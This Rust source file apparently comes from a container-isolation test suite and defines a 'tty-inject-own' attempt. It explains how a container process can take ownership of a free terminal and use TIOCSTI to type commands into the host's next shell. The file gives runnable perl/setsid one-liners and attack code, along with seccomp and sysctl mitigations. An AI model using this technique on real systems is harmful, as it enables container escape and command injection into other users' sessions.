//! tty-inject-own: type into a terminal after making it one's own.

use super::{Attempt, Measured, Need};
use crate::attacker::Failed;
use crate::refusals::Refusal;
use crate::{Attacker, Host, Seen};
use nix::libc;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "tty-inject-own",
    stake: "The input of whoever reads from the terminal next, although the container has a session of its own.",
    story: "The container's standard streams are a terminal that is no session's controlling terminal. A session \
            leader without one may take it, and then TIOCSTI asks for no capability any more: the terminal is the \
            attacker's own. The session of its own that stops tty-inject is here the attacker's tool. What is \
            left is to refuse the request itself: a seccomp filter that looks at the second argument of ioctl. \
            Where dev.tty.legacy_tiocsti is 0, dropping CAP_SYS_ADMIN is enough.",
    by_hand: &[
        r#"script -qc "exec perl -e '\$SIG{HUP} = q(IGNORE); ioctl STDIN, 0x5422, 0; exec @ARGV' lab3-pivot rootfs /bin/sh" /dev/null    # on the host: a terminal that is nobody's"#,
        r#"setsid -c perl -e 'ioctl(STDERR, 0x5412, $_) for split //, "id\n"'    # the next shell runs it: escaped"#,
    ],
    stopped_by: &["lab5-seccomp/tiocsti"],
    after: &["terminal"],
    man: &["ioctl_tty(2)", "setsid(2)", "seccomp(2)"],
    letters: Measured { root: "E EEEEEBB", user: "E EEEEEBB", rootless: "E EEEEEBB" },
    needs: &[Need::FreeTerminal],
    decisive: &[libc::SYS_ioctl],
    attack,
    class: Refusal::Terminal,
    witness,
};

fn attack(me: &mut Attacker) -> Result<(), Failed> {
    let terminal = me.terminal()?;
    // It may be its own already.
    match me.type_mark(terminal, libc::TIOCSTI) {
        Err(Failed::Refused(_)) => {}
        done => return done,
    }
    me.take_terminal(terminal)?;
    me.type_mark(terminal, libc::TIOCSTI)
}

fn witness(host: &Host) -> Seen {
    if host.typed_mark() {
        return Seen::Effect("a line of the attacker's came in over the terminal as typed input".into());
    }
    Seen::Nothing
}
